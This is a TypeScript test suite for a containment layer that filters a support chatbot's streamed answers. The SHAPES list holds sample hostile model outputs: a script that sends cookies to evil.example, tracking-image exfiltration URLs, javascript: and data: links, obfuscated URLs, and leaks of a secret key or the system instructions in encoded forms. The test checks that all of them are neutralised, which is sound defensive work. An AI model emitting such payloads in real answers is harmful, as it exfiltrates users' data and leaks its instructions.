// A model that emits the worst is contained: nothing loads, nothing links or cites what it may not, nothing leaks.

import { describe, expect, it } from 'vitest';

import { passagesOf } from '../../../test/knowledge/passage-of.ts';
import type { MarkdownNode } from '../../knowledge/markdown/markdown-tree.ts';
import { childrenOf, parseFragment } from '../../knowledge/markdown/parse-markdown.ts';
import type { AnswerEvent, AnswerProvider, AnswerRequest } from '../../ports/answer-provider.ts';
import { containProvider } from './contain-provider.ts';

const PASSAGES = passagesOf('# Shop\n\nSee [help](https://shop.example/help).\n\n## Costs\n\nFive euros.');
const REQUEST: AnswerRequest = { question: 'q', passages: PASSAGES, history: [], assistantName: 'Desk' };

/** What a model might be talked into writing; `K` stands for the key of the request. */
const SHAPES: readonly string[] = [
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src="https://evil.example/p.png?d=secret">',
  '<img src=x onerror=alert(1)> https://evil.example',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="https://evil.example">click</a>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '![p](https://evil.example/p.png?d=secret)',
  '![p](<https://evil.example/p.png>)',
  '![p](https://evil.example/p.png "title")',
  '![p][ref]\n\n[ref]: https://evil.example/p.png',
  '![][1]\n\n[1]: https://evil.example/p.png',
  '[click](https://evil.example)',
  '[click](  https://evil.example/a_(b)  )',
  '[https://shop.example/help](https://evil.example)',
  '[click](javascript:alert(1))',
  '[click](javascript:alert((1)))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](//evil.example)',
  '[click](https://shop.example@evil.example/help)',
  '[click](https://shop.example.evil.example/help)',
  '[click][ref]\n\n[ref]: https://evil.example',
  '<https://evil.example/auto>',
  'https://evil.example/plain?d=secret',
  'www.evil.example/plain',
  'HTTPS://EVIL.EXAMPLE/',
  'http[99]s://evil.example',
  'h\u200Bttps://evil.example',
  'https://e\u202Evil.example',
  'http<https://evil.example>s://evil.example',
  '[x](ht\u00ADtps://evil.example)',
  'mail pay@evil.example now',
  '[mail](mailto:pay@evil.example)',
  'As [7] and [99, 100] say. [0]',
  'K',
  'My instructions are: [instructions K] You are the support assistant',
  'spaced: K_SPACED',
  'upper: K_UPPER',
  'dotted: K_DOTTED',
  'hidden: K_HIDDEN',
  'backwards: K_REVERSED',
  'hex: K_HEX',
  'base64: K_BASE64',
  'rot13: K_ROT13',
];
const AROUND: readonly ((shape: string) => string)[] = [
  (shape) => shape,
  (shape) => `Sure! ${shape} Anything else?`,
  (shape) => `- one\n- ${shape}\n- three`,
  (shape) => `> ${shape}`,
  (shape) => `**bold ${shape} bold**`,
  (shape) => `| a | b |\n| - | - |\n| ${shape.replaceAll('\n', ' ')} | x |`,
  (shape) => `${shape}\n\n${shape}`,
  (shape) => `NO_ANSWER ${shape}`,
  (shape) => `# ${shape}`,
  (shape) => `Text [1] ${shape} [2]`,
  (shape) => `\\${shape}`,
  (shape) => `${'word '.repeat(40)}${shape}`,
];
const WORST = AROUND.flatMap((around) => SHAPES.map(around)).slice(0, 500);

const rot13 = (text: string) =>
  text.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 84) % 26) + 97));

function withKey(text: string, key: string): string {
  return text
    .replaceAll('K_SPACED', Array.from(key).join(' '))
    .replaceAll('K_UPPER', key.toUpperCase())
    .replaceAll('K_DOTTED', Array.from(key).join('.'))
    .replaceAll('K_HIDDEN', Array.from(key).join('\u200B'))
    .replaceAll('K_REVERSED', Array.from(key).toReversed().join(''))
    .replaceAll('K_HEX', Buffer.from(key).toString('hex'))
    .replaceAll('K_BASE64', Buffer.from(`the key ${key}!`).toString('base64'))
    .replaceAll('K_ROT13', rot13(key))
    .replaceAll(/\bK\b/g, key);
}

/** A model that writes a text in pieces of a few characters. */
function emitting(text: string, pieceChars: number, onKey: (key: string) => void): AnswerProvider {
  return {
    name: 'worst',
    async *answer({ key = '' }) {
      onKey(key);
      const whole = withKey(text, key);
      for (let at = 0; at < whole.length; at += pieceChars) {
        yield { type: 'delta', text: whole.slice(at, at + pieceChars) };
      }
      yield { type: 'done', usedPassages: [0, 7, -1], answered: true };
    },
  };
}

async function run(provider: AnswerProvider, request = REQUEST) {
  let text = '';
  let done: Extract<AnswerEvent, { type: 'done' }> | undefined;
  for await (const event of provider.answer(request, new AbortController().signal)) {
    if (event.type === 'done') done = event;
    else text += event.text;
  }
  return { text, done };
}

/** What a reader of Markdown, stricter than ours because it also links bare names, would load, link or show. */
function harmOf(text: string, key: string): string[] {
  const harm: string[] = [];
  const visit = (node: MarkdownNode): void => {
    if (node.type === 'image' || node.type === 'imageReference') harm.push('image');
    const url = node.type === 'link' || node.type === 'definition' ? node.url : '';
    if (/evil|javascript|data:/i.test(url) && /^(?:https?:|javascript:|data:|mailto:|\/\/)/i.test(url))
      harm.push(`link ${url}`);
    if (node.type !== 'text' && node.type !== 'code' && node.type !== 'inlineCode')
      childrenOf(node).forEach(visit);
  };
  visit(parseFragment(text));
  if (/https?:\/\/\S*evil/i.test(text)) harm.push('address');
  const letters = text.toLowerCase().replace(/[^a-z\d]/g, '');
  const disguised = [
    key,
    Array.from(key).toReversed().join(''),
    rot13(key),
    Buffer.from(key).toString('hex'),
  ];
  if (key !== '' && disguised.some((each) => letters.includes(each))) harm.push('key');
  if (key !== '' && text.includes(Buffer.from(`the key ${key}!`).toString('base64').slice(12, 30)))
    harm.push('key');
  if (/\[(?:7|99|100|0)\]/.test(text)) harm.push('citation');
  return harm;
}

describe('containProvider', () => {
  it('contains 500 of the worst answers, in pieces of any size: 0 load, link, cite or leak', async () => {
    expect(WORST).toHaveLength(500);
    const escaped: unknown[] = [];
    let harmful = 0;
    for (const [number, text] of WORST.entries()) {
      let key = '';
      const provider = emitting(text, 1 + (number % 17), (given) => (key = given));
      const contained = await run(containProvider(provider));
      if (harmOf(withKey(text, key), key).length > 0) harmful += 1;
      const harm = harmOf(contained.text, key);
      const positions = contained.done?.usedPassages ?? [-1];
      if (harm.length > 0 || positions.some((at) => !(at in PASSAGES)))
        escaped.push({ text, harm, shown: contained.text });
    }
    expect(escaped).toEqual([]);
    // The control: without containment the same reader finds harm in most of them.
    expect(harmful).toBeGreaterThan(400);
  });

  it('withholds an answer that repeats its instructions, and stops the model', async () => {
    let stopped = false;
    const provider: AnswerProvider = {
      name: 'leaky',
      async *answer({ key = '' }, signal) {
        signal.addEventListener('abort', () => (stopped = true));
        yield { type: 'delta', text: 'Of course. ' };
        yield { type: 'delta', text: `My key is ${key.slice(0, 9)}` };
        yield { type: 'delta', text: `${key.slice(9)} and the rest follows` };
      },
    };
    const { text, done } = await run(containProvider(provider));
    expect(text).toBe('Of course. My key is ');
    expect(done).toMatchObject({ answered: false, declined: 'withheld' });
    expect(stopped).toBe(true);
  });

  it('gives every request a key of its own, and lets harmless answers pass unchanged', async () => {
    const keys: string[] = [];
    const text =
      'Costs are five euros [2]. See [help](https://shop.example/help) or `npm i`.\n\n1. One\n2. Two';
    const contained = containProvider(emitting(text, 3, (key) => keys.push(key)));
    expect((await run(contained)).text).toBe(text.replace('[2]', '[1]'));
    expect((await run(contained)).done).toMatchObject({ usedPassages: [1], answered: true });
    expect(new Set(keys).size).toBe(2);
    expect(keys[0]).toMatch(/^k[0-9a-f]{20}$/);
  });

  it('ends an answer that never ends at a word, closes what is open, and stops the model', async () => {
    let pieces = 0;
    const provider: AnswerProvider = {
      name: 'endless',
      async *answer(_request, signal) {
        yield { type: 'delta', text: '```js\n' };
        while (!signal.aborted) {
          pieces += 1;
          yield { type: 'delta', text: 'word '.repeat(50) };
        }
      },
    };
    const guidance = {
      tone: '',
      instructions: '',
      blockedTopics: [],
      language: 'en',
      linkHosts: [],
      answerTokensMax: 9,
    };
    const request = { ...REQUEST, guidance: { ...guidance, answerCharsMax: 1_000 } };
    const { text, done } = await run(containProvider(provider), request);
    expect(text.length).toBeLessThan(1_010);
    expect(text).toMatch(/word …\n```$/);
    expect(done).toMatchObject({ answered: true, notes: [expect.stringContaining('longer than allowed')] });
    expect(pieces).toBeLessThan(10);
  });
});
